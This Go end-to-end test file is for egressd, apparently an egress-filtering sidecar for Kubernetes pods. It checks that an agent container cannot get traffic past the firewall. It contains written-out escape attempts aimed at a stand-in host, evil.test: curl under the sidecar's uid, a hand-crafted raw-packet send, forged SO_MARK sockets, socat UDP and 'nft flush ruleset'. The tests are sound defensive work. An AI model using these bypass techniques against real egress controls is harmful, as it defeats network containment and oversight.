package containers

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"unsafe"

	"github.com/egressd/egressd/e2e/world"
	"github.com/egressd/egressd/record"
	"go.yaml.in/yaml/v3"
)

// A container is one of a manifest, with the fields that the manifest of egressd uses: others are
// an error. The API server, too, is to know each of them.
type container struct {
	Name          string   `yaml:"name"`
	Image         string   `yaml:"image"`
	Command       []string `yaml:"command"`
	Args          []string `yaml:"args"`
	RestartPolicy string   `yaml:"restartPolicy"`

	SecurityContext struct {
		RunAsUser                int  `yaml:"runAsUser"`
		RunAsGroup               int  `yaml:"runAsGroup"`
		RunAsNonRoot             bool `yaml:"runAsNonRoot"`
		AllowPrivilegeEscalation bool `yaml:"allowPrivilegeEscalation"`
		ReadOnlyRootFilesystem   bool `yaml:"readOnlyRootFilesystem"`
		Capabilities             struct {
			Drop []string `yaml:"drop"`
			Add  []string `yaml:"add"`
		} `yaml:"capabilities"`
	} `yaml:"securityContext"`

	VolumeMounts []struct {
		Name      string `yaml:"name"`
		MountPath string `yaml:"mountPath"`
		ReadOnly  bool   `yaml:"readOnly"`
	} `yaml:"volumeMounts"`
}

type podSpec struct {
	AutomountServiceAccountToken bool `yaml:"automountServiceAccountToken"`
	EnableServiceLinks           bool `yaml:"enableServiceLinks"`
	HostNetwork                  bool `yaml:"hostNetwork"`
	HostPID                      bool `yaml:"hostPID"`
	HostIPC                      bool `yaml:"hostIPC"`
	ShareProcessNamespace        bool `yaml:"shareProcessNamespace"`

	SecurityContext struct {
		SeccompProfile struct {
			Type string `yaml:"type"`
		} `yaml:"seccompProfile"`
	} `yaml:"securityContext"`
	DNSConfig      map[string]any   `yaml:"dnsConfig"`
	InitContainers []container      `yaml:"initContainers"`
	Containers     []container      `yaml:"containers"`
	Volumes        []map[string]any `yaml:"volumes"`
}

type document struct {
	APIVersion string            `yaml:"apiVersion"`
	Kind       string            `yaml:"kind"`
	Metadata   map[string]any    `yaml:"metadata"`
	Data       map[string]string `yaml:"data"`
	Spec       podSpec           `yaml:"spec"`
}

// readManifest is what egressd init k8s writes: a policy and a pod.
func readManifest(t *testing.T) (policy string, pod podSpec) {
	t.Helper()
	text, err := exec.Command(world.Egressd.Path(), "init", "k8s", "--print").Output()
	if err != nil {
		t.Fatal(err)
	}
	d := yaml.NewDecoder(bytes.NewReader(text))
	d.KnownFields(true)
	for {
		var one document
		switch err := d.Decode(&one); {
		case errors.Is(err, io.EOF):
			return policy, pod
		case err != nil:
			t.Fatal(err)
		case one.Kind == "ConfigMap" && one.APIVersion == "v1":
			policy = one.Data["egressd.yaml"]
		case one.Kind == "Pod" && one.APIVersion == "v1":
			pod = one.Spec
		default:
			t.Fatalf("the manifest has %+v", one)
		}
	}
}

// filteredArgument has this test binary take a filter of system calls that lets all
// pass, as a container has one, and become the rest of its arguments.
const filteredArgument = "with-a-filter-of-system-calls"

func filtered(args []string) int {
	runtime.LockOSThread()
	const prSetSeccomp, modeFilter, ret, allow = 22, 2, 0x06, 0x7fff0000
	code := []struct {
		op     uint16
		jt, jf uint8
		k      uint32
	}{{op: ret, k: allow}}
	program := struct {
		length uint16
		code   unsafe.Pointer
	}{1, unsafe.Pointer(&code[0])}
	if _, _, err := syscall.RawSyscall(syscall.SYS_PRCTL, prSetSeccomp, modeFilter, uintptr(unsafe.Pointer(&program))); err != 0 {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	path, err := exec.LookPath(args[0])
	if err == nil {
		err = syscall.Exec(path, args, os.Environ())
	}
	fmt.Fprintln(os.Stderr, err)
	return 1
}

// A confinement is how a runtime starts a container, as far as it matters here.
type confinement struct {
	uid        int
	caps       []string // of the bounding set, and for root effective; none is "drop: [ALL]"
	privileges bool     // may get new ones
	unfiltered bool     // no seccomp
	shared     bool     // sees the processes of the pod
}

func (c *container) confined() confinement {
	s := c.SecurityContext
	return confinement{uid: s.RunAsUser, caps: s.Capabilities.Add, privileges: s.AllowPrivilegeEscalation}
}

// dockerCapabilities are those that Docker and containerd leave a container by default.
var dockerCapabilities = []string{"chown", "dac_override", "fowner", "fsetid", "kill", "setgid", "setuid", "setpcap", "net_bind_service", "net_raw", "sys_chroot", "mknod", "audit_write", "setfcap"}

// command is a program in a container.
func (c confinement) command(args ...string) *exec.Cmd {
	sets := "-all"
	for _, one := range c.caps {
		sets += ",+" + strings.ToLower(one)
	}
	all := []string{"setpriv", "--reuid", fmt.Sprint(c.uid), "--regid", fmt.Sprint(c.uid), "--keep-groups", "--inh-caps", "-all", "--bounding-set", sets}
	if !c.privileges {
		all = append(all, "--no-new-privs")
	}
	all = append(append(all, "--"), args...)
	if !c.shared {
		all = append([]string{"unshare", "--pid", "--fork", "--mount-proc"}, all...)
	}
	if c.unfiltered {
		return exec.Command(all[0], all[1:]...)
	}
	return exec.Command("/proc/self/exe", append([]string{filteredArgument}, all...)...)
}

// A testPod is the pod of the manifest, in the network of the gateway.
type testPod struct {
	*world.Daemon
	volume string // where the manifest has /egressd
	agent  container
	beside confinement // of egressd's container
}

// startPod starts the containers of the manifest in their order, but for the agent. rules are those of the policy.
func startPod(t *testing.T, written string) *testPod {
	t.Helper()
	policy, pod := readManifest(t)
	if pod.HostNetwork || pod.HostPID || pod.ShareProcessNamespace || pod.SecurityContext.SeccompProfile.Type != "RuntimeDefault" || len(pod.InitContainers) != 2 || len(pod.Containers) != 1 {
		t.Fatalf("the manifest has %+v", pod)
	}
	w := world.Open(t)
	p := &testPod{Daemon: world.NewDaemon(t, strings.Replace(policy, "allow: []\n", written, 1)), agent: pod.Containers[0]}
	p.PutFile(t, "policy/egress.rego", world.FixRego)
	p.volume = filepath.Join(p.Dir, "volume")
	if err := os.Mkdir(p.volume, 0o777); err != nil {
		t.Fatal(err)
	}
	rules, sidecar := pod.InitContainers[0], pod.InitContainers[1]
	if out, err := p.in(rules.confined(), append([]string{world.Egressd.Path()}, p.here(rules.Args)...)...); err != nil {
		t.Fatalf("%s: %v:\n%s", rules.Name, err, out)
	}
	t.Cleanup(func() {
		if err := w.Gateway.Load("table inet egressd {}; delete table inet egressd\n"); err != nil {
			t.Error(err)
		}
	})
	if err := p.Chown(sidecar.SecurityContext.RunAsUser); err != nil {
		t.Fatal(err)
	}
	if sidecar.RestartPolicy != "Always" {
		t.Errorf("%s is no sidecar", sidecar.Name)
	}
	p.beside = sidecar.confined()
	confined := p.beside
	confined.shared, confined.unfiltered = true, true // so that its process is the one that is started; its own rights are the same
	p.Run(t, confined.command(append([]string{world.Egressd.Path(), "serve", "--config", p.Config}, sidecar.Args[1:]...)...))
	t.Cleanup(func() { p.Stop(t) })
	return p
}

// here has paths of the volume be those of this test.
func (p *testPod) here(args []string) (all []string) {
	for _, a := range args {
		all = append(all, strings.Replace(a, "/egressd/", p.volume+"/", 1))
	}
	return all
}

// in runs a program in a container of the pod.
func (p *testPod) in(c confinement, args ...string) (string, error) {
	cmd := c.command(args...)
	cmd.Dir = "/"
	var out strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &out
	err := p.World.Gateway.Run(cmd)
	return out.String(), err
}

// asAgent runs a shell script as the manifest has the agent started.
func (p *testPod) asAgent(c confinement, script string) (string, error) {
	return p.in(c, append(p.here(p.agent.Command), "sh", "-c", script)...)
}

// leaks reports whether a packet went to evil.test since a mark.
func (p *testPod) leaks(t *testing.T, mark int) bool {
	t.Helper()
	packets, err := p.World.Wire.Since(mark)
	if err != nil {
		t.Fatal(err)
	}
	for _, one := range packets {
		if one.To.Addr().String() == world.EvilIPv4 {
			return true
		}
	}
	return false
}

// Ways past rules that tell users apart.
const (
	bySetuid = `setpriv --reuid 65532 --keep-groups curl -sS -m3 --resolve evil.test:80:` + world.EvilIPv4 + ` http://evil.test/`
	byPacket = `dev=$(ip -o route get ` + world.EvilIPv4 + ` | sed 's/.* dev \([^ ]*\).*/\1/') python3 -c '
import os, socket
ip = bytes([0x45,0,0,29, 0,1,0,0, 64,17,0,0]) + socket.inet_aton("10.98.0.1") + socket.inet_aton("` + world.EvilIPv4 + `")
sum = sum(ip[i] << 8 | ip[i+1] for i in range(0, 20, 2)); sum = 65535 - (sum & 65535) - (sum >> 16)
ip = ip[:10] + bytes([sum >> 8 & 255, sum & 255]) + ip[12:] + bytes([0,9,0,9,0,9,0,0]) + b"x"
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0800)
s.sendto(ip, (os.environ["dev"], 0x0800, 0, 0, b"\xff" * 6))'`
	byMark = `python3 -c '
import socket
for mark in (1, 2, 255, 0x4567, 0xffffffff):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, 36, mark.to_bytes(4, "little")) # SO_MARK
    s.settimeout(3)
    s.connect(("` + world.EvilIPv4 + `", 80))
    s.send(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
    print(s.recv(100))'`
)

func TestPod(t *testing.T) {
	p := startPod(t, "allow: [one.allowed.test]\n")
	asWritten := p.agent.confined()
	for _, row := range []struct{ says, script, want string }{
		{"an allowed name", `curl -sS -m9 --resolve one.allowed.test:80:` + world.EvilIPv4 + ` http://one.allowed.test/`, "origin "},
		{"a denied name", `curl -sS -m9 --resolve evil.test:80:` + world.EvilIPv4 + ` http://evil.test/`, `"class":"default-deny"`},
		{"a name that is asked for", `dig +time=3 +tries=1 @8.8.8.8 evil.test`, "REFUSED"},
		{"a datagram", `echo x | socat -t1 - UDP:` + world.EvilIPv4 + `:443 2>&1; echo done`, "done"},
		{"another user", bySetuid + ` || echo no`, "no"},
		{"the link", byPacket + ` 2>&1 || echo no`, "Operation not permitted"},
		{"the rules", `nft flush ruleset 2>&1 || echo no`, "Operation not permitted"},
	} {
		mark := p.World.Mark(t)
		got, _ := p.asAgent(asWritten, row.script) // what it says counts
		if !strings.Contains(got, row.want) {
			t.Errorf("%s: got %q", row.says, got)
		}
		if p.leaks(t, mark) {
			t.Errorf("%s: it got out", row.says)
		}
	}
}

// TestPodRefusesWhatTheRulesDoNotHold shows that a container with Docker's default
// capabilities gets out, and that pod-run starts nothing in it, nor where anything
// else is missing.
func TestPodRefusesWhatTheRulesDoNotHold(t *testing.T) {
	p := startPod(t, "allow: [one.allowed.test]\n")
	docker := confinement{uid: 0, caps: dockerCapabilities, privileges: true}
	for says, script := range map[string]string{"setuid": bySetuid, "packets": byPacket} {
		mark := p.World.Mark(t)
		out, err := p.in(docker, "sh", "-c", script)
		if !world.Eventually(world.Patience, func() bool { return p.leaks(t, mark) }) {
			t.Errorf("by %s nothing got out, so that nothing here is tested: %v:\n%s", says, err, out)
		}
		mark = p.World.Mark(t)
		if out, err := p.asAgent(docker, "echo it runs; "+script); err == nil || strings.Contains(out, "it runs") || !strings.Contains(out, "it has or can get capabilities") || p.leaks(t, mark) {
			t.Errorf("by %s, started by pod-run: %v:\n%s", says, err, out)
		}
	}
	// The rules tell users apart, so that a mark, which NET_RAW is enough to set, opens nothing.
	mark := p.World.Mark(t)
	if out, err := p.in(docker, "sh", "-c", byMark); err != nil || strings.Count(out, "403") != 5 || p.leaks(t, mark) {
		t.Errorf("with marked packets: %v:\n%s", err, out)
	}
	const user = 1000
	for says, c := range map[string]confinement{
		"it is root or user 65532":                 {uid: 0},
		"user 65532, whom":                         {uid: 65532},
		"it has or can get capabilities":           {uid: user, caps: []string{"net_raw"}},
		"programs with set-user-ID":                {uid: user, privileges: true},
		"its system calls are not filtered":        {uid: user, unfiltered: true},
		"it sees egressd's processes":              {uid: user, shared: true},
		"it has or can get capabilities (0x1000):": {uid: user, caps: []string{"net_admin"}},
	} {
		if out, err := p.asAgent(c, "echo it runs"); err == nil || strings.Contains(out, "it runs") || !strings.Contains(out, says) {
			t.Errorf("%+v: %v:\n%s", c, err, out)
		}
	}
	doctor := func(c confinement) error {
		_, err := p.in(c, p.here([]string{"/egressd/egressd"})[0], "doctor", "--pod")
		return err
	}
	if err := doctor(docker); err == nil {
		t.Error("doctor finds nothing in a container with Docker's capabilities")
	}
	if err := doctor(confinement{uid: user}); err != nil {
		t.Errorf("doctor finds something in the manifest's container: %v", err)
	}
	if err := p.World.Gateway.Load("flush table inet egressd\ndelete table inet egressd\n"); err != nil {
		t.Fatal(err)
	}
	if out, err := p.asAgent(confinement{uid: user}, "echo it runs"); err == nil || strings.Contains(out, "it runs") || !strings.Contains(out, "a datagram left") {
		t.Errorf("without rules: %v:\n%s", err, out)
	}
}

// TestPodInitLeavesTheRulesOfOthers has it meet the network of a host.
func TestPodInitLeavesTheRulesOfOthers(t *testing.T) {
	w := world.Open(t)
	if err := w.Gateway.Load("table inet kube {\n}\n"); err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := w.Gateway.Load("delete table inet kube\n"); err != nil {
			t.Error(err)
		}
	}()
	var out strings.Builder
	cmd := exec.Command(world.Egressd.Path(), "pod-init")
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := w.Gateway.Run(cmd); err == nil || !strings.Contains(out.String(), "rules of others: table kube") {
		t.Errorf("%v:\n%s", err, out.String())
	}
	if now, err := w.Gateway.Tool("nft", "list", "tables"); err != nil || strings.Contains(now, "egressd") {
		t.Errorf("%v:\n%s", err, now)
	}
}

// TestEachPrintedFixInAPod types each fix in egressd's container, as kubectl exec does.
func TestEachPrintedFixInAPod(t *testing.T) {
	p := startPod(t, world.FixRules+"tls: {ca_dir: ca, extra_roots: [lab.pem]}\n")
	place := &world.FixPlace{
		Tools: world.CapturedFixTools, Served: true, Policy: p.Config,
		Command: func(words string) string { return "egressd " + words + " --config " + p.Config },
		Typed: func(t *testing.T, line string) (string, error) {
			return p.in(p.beside, "env", "PATH="+filepath.Dir(world.Egressd.Path())+":"+os.Getenv("PATH"), "HOME="+p.Dir, "XDG_STATE_HOME="+p.Dir, "XDG_RUNTIME_DIR="+p.Dir, "sh", "-c", line)
		},
		Do: func(t *testing.T, script string) (string, string, []record.Record) {
			mark, err := p.Log.Mark()
			if err != nil {
				t.Fatal(err)
			}
			out, err := p.asAgent(p.agent.confined(), script)
			if err != nil {
				t.Fatalf("%v: %s", err, out)
			}
			records, err := p.Log.Since(mark)
			if err != nil {
				t.Fatal(err)
			}
			return out, "", records
		},
	}
	tryFixes(t, place, "container", "names")
	t.Run("loop", func(t *testing.T) { place.TryLoop(t, nil, "pod") })
}
